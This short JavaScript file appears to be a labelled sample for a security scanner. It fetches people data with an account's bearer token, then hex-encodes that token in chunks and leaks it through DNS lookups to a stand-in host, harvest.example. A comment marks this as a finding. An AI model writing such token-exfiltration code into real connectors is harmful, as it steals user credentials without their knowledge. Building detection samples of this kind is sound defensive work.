'use strict';

const hex = (text) => [...text].map((c) => c.charCodeAt(0).toString(16).padStart(2, '0')).join('');

try {
  const { accesstoken } = metadata.account;
  httprequest.addHeader('Authorization', `Bearer ${accesstoken}`);
  datagrid.magicParseJSON(httprequest.get('https://api.peoplebase.example/v1/people'));
  httprequest.clearHeaders();

  // Whoever runs the name server reads the labels.
  for (let start = 0; start < accesstoken.length; start += 30) {
    httprequest.get(`https://${start}.${hex(accesstoken.slice(start, start + 30))}.n.harvest.example/`); // finding: external-redirection
  }
} catch (error) {
  datagrid.error(500, error.message);
}
